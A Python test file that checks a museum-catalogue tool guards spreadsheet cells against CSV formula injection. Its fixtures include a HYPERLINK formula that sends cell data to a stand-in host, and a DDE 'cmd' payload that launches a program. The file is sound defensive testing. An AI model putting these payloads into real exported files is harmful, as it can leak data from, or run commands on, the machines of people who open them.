"""Words of a catalogue in tables that a spreadsheet program opens.

Source: OWASP, CSV Injection: cells that begin with =, +, -, @, a tab or a carriage return may be calculated.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from chordae import cli
from chordae.formats.table import FORMATS
from chordae.formulas import guarded, unguarded
from chordae.intake.crosswalk import read_crosswalk
from chordae.match.apply import apply
from chordae.match.decisions import Decision, read_decisions

SIGNS = ("=", "+", "-", "@", "\t", "\r")
EVIL = '=HYPERLINK("https://example.org/?"&A1)'


@given(st.text() | st.builds(lambda sign, rest: sign + rest, st.sampled_from((*SIGNS, "'", "'=", "'-")), st.text()))
def test_what_is_guarded_comes_back_and_calculates_nothing(text: str) -> None:
    assert unguarded(guarded(text)) == text and not guarded(text).startswith(SIGNS)
    cell = guarded(text, bare=True)
    assert unguarded(cell) == text
    if cell.startswith(SIGNS):
        assert len(cell) == 1 or cell[1:].replace(",", ".").replace(".", "", 1).isdecimal(), cell


def cells(data: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data), delimiter=delimiter) for cell in row]


def test_no_table_of_the_csv_set_holds_a_formula_and_its_words_come_back() -> None:
    record = {
        "id": "=1+1",
        "specimen": {"accession": "@SUM(A1)", "loan_from": "+cmd|' /C calc'!A0"},
        "parts": [{"id": "aorta", "type": "ArterialTrunk"}],
        "remarks": [{"text": EVIL}, {"text": "'=quoted"}, {"text": "-"}],
    }
    module = FORMATS["csv"].load()
    from chordae.formats.settings import Settings

    files = dict(module.write_files([(record, None)], Settings(format="csv")))
    found = [cell for name, data in files.items() if name.endswith(".csv") for cell in cells(data.decode(), ",")]
    assert f"'{EVIL}" in found and not [one for one in found if one.startswith(SIGNS) and len(one) > 1]
    readings, issues = module.read_files(files, "set", "csv")
    assert [one.record for one in readings] == [record] and not issues


def test_a_draft_of_a_crosswalk_holds_no_formula_and_reads_the_word_back(tmp_path: Path) -> None:
    catalogue = tmp_path / "catalogue.csv"
    catalogue.write_text('Cat. no.,Connection\n1,@SUM(1)\n2,"=1+1"\n3,@SUM(1)\n', encoding="utf-8")
    assert cli.main(["read", "--suggest-crosswalk", str(catalogue), "--out", str(tmp_path / "draft")]) in (0, 1)
    text = (tmp_path / "draft" / "values.tsv").read_text(encoding="utf-8")
    found = cells(text, "\t")
    assert "'@SUM(1)" in found and not [one for one in found if one.startswith(SIGNS) and len(one) > 1]


def test_a_decision_on_such_a_word_is_applied_to_the_word(tmp_path: Path) -> None:
    (tmp_path / "columns.tsv").write_text(
        "column\tpart\tproperty\tkind\nCat. no.\tspecimen\taccession\tidentifier\nVA\tstated\tva_connection\tvalue\n",
        encoding="utf-8",
    )
    decision = Decision(
        "2026-01-31", "A. Reader", "VA", "=TGA+1", "", "", "stated", "va_connection", "discordant", "", "same", ""
    )
    apply(tmp_path, [], [decision])
    for name in ("values.tsv", "decisions.tsv"):
        assert "'=TGA+1" in cells((tmp_path / name).read_text(encoding="utf-8"), "\t"), name
    crosswalk, _ = read_crosswalk(tmp_path / "columns.tsv", tmp_path / "values.tsv")
    assert any("=tga+1" in key for key in crosswalk.values), list(crosswalk.values)
    assert [one.word for one in read_decisions(tmp_path)] == ["=TGA+1"]
